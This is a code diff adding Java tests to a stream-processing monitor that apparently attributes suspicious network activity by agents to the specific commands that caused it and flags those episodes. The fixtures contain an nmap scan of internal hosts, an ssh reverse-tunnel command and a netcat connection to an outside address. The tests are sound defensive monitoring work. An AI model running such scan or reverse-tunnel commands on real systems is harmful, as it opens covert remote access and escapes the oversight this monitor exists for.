@@ -10,12 +10,14 @@ import io.vigil.records.AgentEvent;
 import io.vigil.records.Alert;
 import io.vigil.records.Category;
 import io.vigil.records.Destination;
+import io.vigil.records.EpisodeFlag;
 import io.vigil.records.Evidence;
 import io.vigil.records.GpuProcess;
 import io.vigil.records.GpuSample;
 import io.vigil.records.IncidentState;
 import io.vigil.records.ProcessEvidence;
 import io.vigil.records.Severity;
+import io.vigil.records.TransitionCause;
 import java.time.Instant;
 import java.util.List;
 import org.apache.flink.api.common.typeinfo.Types;
@@ -194,5 +196,99 @@ class AgentContextHarnessTest {
 
         assertThat(harness.numKeyedStateEntries()).isZero();
         assertThat(harness.numEventTimeTimers()).isZero();
+    }
+
+    /**
+     * A scan opens an incident, the same episode goes on, then a tunnel joins: each episode is flagged once, by the
+     * transition that first named it, with the incident's categories and its calls; the tunnel's transition names the
+     * ssh call's episode first though the scanner's call is nearer to the scan's packets; the CLOSE flags nothing.
+     */
+    @Test
+    void eachEpisodeAnIncidentNamesIsFlaggedOnce() throws Exception {
+        sample("python", at(0));
+        seen("198.51.100.10", 443, at(0));
+        send(call("ep-scan", at(2) + 8_000, at(2) + 50_000, "nmap -sS -p 22,80 10.0.50.7 10.0.50.8"));
+        seen("10.0.50.7", 22, at(2) + 9_000);
+        Alert scanWindow = Alert.newBuilder(window(2, 0.8, Severity.HIGH, Category.NETWORK_SCAN))
+                .setEvidence(new Evidence(
+                        List.of(new Destination("10.0.50.7", 22, "tcp", false, 0L, 1L, 1L)), List.of(), 1L, 0L))
+                .build();
+        Alert open = Incidents.open(scanWindow);
+        alert(open);
+        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));
+
+        send(call("ep-tunnel", at(4) + 1_000, at(4) + 1_500, "ssh -f -N -R 2222:localhost:22 agent@203.0.113.7"));
+        seen("203.0.113.7", 22, at(4) + 4_000);
+        seen("10.0.50.8", 80, at(4) + 9_000);
+        Alert both = Alert.newBuilder(window(4, 0.9, Severity.HIGH, Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
+                .setEvidence(new Evidence(
+                        List.of(
+                                new Destination("203.0.113.7", 22, "tcp", true, 9_000L, 2L, 0L),
+                                new Destination("10.0.50.8", 80, "tcp", false, 0L, 1L, 1L)),
+                        List.of(),
+                        3L,
+                        0L))
+                .build();
+        Alert joined = Alert.newBuilder(both)
+                .setIncidentId(open.getIncidentId())
+                .setAlertId("joined")
+                .setIncidentState(IncidentState.UPDATE)
+                .setTransitionCauses(List.of(TransitionCause.CATEGORY_JOINED))
+                .setIncidentCategories(List.of(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
+                .setJoinedCategories(List.of(Category.REVERSE_TUNNEL))
+                .build();
+        alert(joined);
+        alert(Alert.newBuilder(joined)
+                .setAlertId("close")
+                .setIncidentState(IncidentState.CLOSE)
+                .setTransitionCauses(List.of(TransitionCause.JOB_STOPPED))
+                .setJoinedCategories(List.of())
+                .build());
+        harness.processWatermark(new Watermark(at(5) + AgentContext.CALL_GRACE_MS));
+
+        assertThat(harness.extractOutputValues())
+                .extracting(a -> a.getAgentContext().get(0).getEpisodeId())
+                .containsExactly("ep-scan", "ep-tunnel", "ep-tunnel");
+        List<EpisodeFlag> flags = harness.getSideOutput(AgentContext.EPISODE_FLAGS).stream()
+                .map(StreamRecord::getValue)
+                .toList();
+        assertThat(flags).extracting(EpisodeFlag::getEpisodeId).containsExactly("ep-scan", "ep-tunnel");
+        assertThat(flags.get(0).getAlertId()).isEqualTo(open.getAlertId());
+        assertThat(flags.get(0).getRank()).isEqualTo(1);
+        assertThat(flags.get(1).getAlertId()).isEqualTo("joined");
+        assertThat(flags.get(1).getCategories()).containsExactly(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL);
+        assertThat(flags.get(1).getCalls())
+                .singleElement()
+                .satisfies(c -> assertThat(c.getCommand()).startsWith("ssh -f -N -R"));
+        assertThat(flags)
+                .extracting(EpisodeFlag::getFlagId)
+                .containsExactly(
+                        Alerts.flagId(open.getIncidentId(), "ep-scan"),
+                        Alerts.flagId(open.getIncidentId(), "ep-tunnel"));
+    }
+
+    /**
+     * A long connection re-reported every minute, counting from its start (the tracker's, from minute 0), keeps the
+     * job's kept history reaching a horizon back: a tunnel past the horizon still anchors and names its call.
+     */
+    @Test
+    void aLongConnectionReReportedKeepsTheJobsHistoryReachingBack() throws Exception {
+        int late = (int) (AgentContext.HORIZON_MS / 60_000) + 4;
+        for (int minute = 0; minute <= late + 1; minute++) {
+            harness.processWatermark(new Watermark(at(minute)));
+            seen("198.51.100.10", 443, at(0));
+            if (minute == late) {
+                send(call("ep-nc", at(late) + 9_000, at(late) + 9_500, "nc 203.0.113.7 22"));
+                seen("203.0.113.7", 22, at(late) + 10_000);
+                alert(tunnelAlert(late));
+            }
+        }
+        harness.processWatermark(new Watermark(at(late + 1) + AgentContext.CALL_GRACE_MS));
+
+        assertThat(harness.extractOutputValues())
+                .singleElement()
+                .satisfies(a -> assertThat(a.getAgentContext())
+                        .extracting(AgentEpisode::getEpisodeId)
+                        .containsExactly("ep-nc"));
     }
 }
